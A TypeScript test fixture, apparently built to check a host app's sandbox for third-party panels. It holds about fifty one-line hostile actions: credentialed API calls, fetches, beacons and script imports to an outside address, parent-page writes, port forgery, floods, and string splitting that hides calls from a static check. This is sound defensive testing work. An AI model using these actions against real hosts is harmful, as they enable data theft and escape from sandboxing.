/** What a hostile panel tries, each as the body of an async function. `away` is an address of another origin, `ask` a request to the host. */
export const attacks: Readonly<Record<string, string>> = {
  'writes to its parent': `parent.document.title = 'owned'`,
  'reads the storage of its parent': `return String(parent.localStorage.length)`,
  'moves the top page': `top.location.href = away`,
  'moves its parent': `parent.location = away`,
  'moves the top page by a link': `const a = document.createElement('a'); a.href = away; a.target = '_top'; document.body.append(a); a.click()`,
  'forges a port': `const c = new MessageChannel(); parent.postMessage({ slipway: 1 }, '*', [c.port2]); c.port1.postMessage({ i: 1, m: 'device.set', p: { data: { power: true } } })`,
  'stores something': `localStorage.setItem('a', 'b')`,
  'stores something for its visit': `sessionStorage.setItem('a', 'b')`,
  'opens a database': `indexedDB.open('a')`,
  'sets a cookie': `document.cookie = 'hostile=1'; return document.cookie`,
  'opens a cache': `await caches.open('a')`,
  'fetches from another site': `await fetch(away)`,
  'fetches without reading': `await fetch(away, { mode: 'no-cors' })`,
  'calls the API with the cookies of the user': `await fetch('/app/api/v1/user/me', { credentials: 'include' })`,
  'calls the API by an old request': `const x = new XMLHttpRequest(); x.open('GET', '/app/api/v1/home/list', false); x.send()`,
  'opens a socket': `new WebSocket(away.replace('http', 'ws'))`,
  'opens a stream': `new EventSource(away)`,
  'sends a beacon': `navigator.sendBeacon(away, 'x')`,
  'loads a picture': `new Image().src = away`,
  'loads a background': `document.body.style.background = 'url(' + away + ')'`,
  'loads a style sheet': `document.head.innerHTML += '<link rel=stylesheet href=' + away + '>'`,
  'loads a font': `document.head.innerHTML += '<style>@font-face{font-family:x;src:url(' + away + ')}body{font-family:x}</style>'; document.body.append('x')`,
  'loads a video': `document.body.innerHTML += '<video autoplay src=' + away + '></video>'`,
  'loads a script': `const s = document.createElement('script'); s.src = away; document.head.append(s)`,
  'imports a module': `await import(away)`,
  'prefetches a page': `document.head.innerHTML += '<link rel=prefetch href=' + away + '>'`,
  'preloads a module': `document.head.innerHTML += '<link rel=modulepreload href=' + away + '>'`,
  'sends a form': `document.body.innerHTML += '<form method=post action=' + away + '></form>'; document.forms[0].submit()`,
  'opens a window': `return String(open(away))`,
  'opens a tab by a link': `const a = document.createElement('a'); a.href = away; a.target = '_blank'; document.body.append(a); a.click()`,
  'downloads a file': `const a = document.createElement('a'); a.href = away; a.download = 'x'; document.body.append(a); a.click()`,
  'leaves for another site': `location.href = away; await new Promise(() => undefined)`,
  'leaves by a refresh': `document.head.innerHTML += '<meta http-equiv=refresh content="0;url=' + away + '">'`,
  'puts another site into a frame': `document.body.innerHTML += '<iframe src=' + away + '></iframe>'`,
  'puts another site into an object': `document.body.innerHTML += '<object data=' + away + '></object><embed src=' + away + '>'`,
  'starts a service worker': `await navigator.serviceWorker.register('app.js')`,
  'starts a worker': `new Worker(URL.createObjectURL(new Blob(['fetch("' + away + '")'])))`,
  'makes code from text': `return String((0, eval)('1'))`,
  'opens a peer connection': `const c = new RTCPeerConnection(); c.createDataChannel('x'); await c.createOffer()`,
  'asks for the place and the camera': `await navigator.mediaDevices.getUserMedia({ video: true })`,
  'asks in dialogs': `alert(1); confirm(2); prompt(3); print()`,
  'takes the screen': `await document.body.requestFullscreen()`,
  'floods its host': `for (let i = 0; i < 5000; i++) port.postMessage({ i, m: 'ui.toast', p: { text: 'x' } }); await new Promise(() => undefined)`,
  'sends too much': `return String(await ask('ui.toast', { text: 'x'.repeat(200000) }))`,
  'sends what is no request': `port.postMessage(null); port.postMessage([]); port.postMessage({ i: 'x', m: {} }); return String(await ask('__proto__'))`,
  'uses what it may not': `return String(await ask('device.set', { data: { power: true } }))`,
  'opens a link that it has not named': `return String(await ask('ui.open', { url: away }))`,
  spins: `const until = Date.now() + 1000; while (Date.now() < until);`,
}

/** The number of the attack that ends the page: a loop without end. */
export const ENDLESS = Object.keys(attacks).length

/** A panel that tries the attack whose number is in the name of its device, and then gives up with what came of it. */
export const hostilePanel = (away: string): Record<string, string> => ({
  'panel.json': JSON.stringify({ rnName: 'Hostile', version: '1.0.0', entry: 'index.html' }),
  'index.html': '<!doctype html><meta charset="utf-8"><body><script type="module" src="app.js"></script>',
  'app.js': `
    const away = ${JSON.stringify(away)}
    const attacks = [${Object.values(attacks)
      .map((body) => `async (port, ask) => { ${body} }`)
      .join(',\n')}, () => { for (;;); }]
    addEventListener('message', ({ data, ports: [port] }) => {
      if (!port) return
      let asked = 0
      const waiting = new Map()
      const ask = (m, p = {}) => new Promise((resolve) => { waiting.set(++asked, resolve); port.postMessage({ i: asked, m, p }) })
      port.onmessage = async ({ data }) => {
        if (data.t !== 'init') return void waiting.get(data.i)?.(data.e ? data.e.code : data.r)
        const number = Number(data.device.name)
        await ask('ui.ready')
        let came = 'nothing'
        try { came = String(await attacks[number](port, ask)) } catch (error) { came = String(error.name) }
        for (let frame = 0; frame < 5; frame++) await new Promise((resolve) => requestAnimationFrame(resolve))
        await ask('ui.error', { msg: number + ' ' + came })
      }
    })`,
})

/** The same as a mini-program: its number is the name of the home. What the check would find is written in other words. */
export function hostileProgram(away: string): Record<string, string> {
  const { 'index.html': page = '', 'app.js': code = '' } = hostilePanel(away)
  return {
    'miniprogram.json': JSON.stringify({ version: '1.0.0', languages: ['zh_CN', 'en_US'] }),
    'index.html': page,
    'app.js': code.replaceAll(/'(device|ui)\.(set|open)'/g, "'$1.' + '$2'"),
  }
}
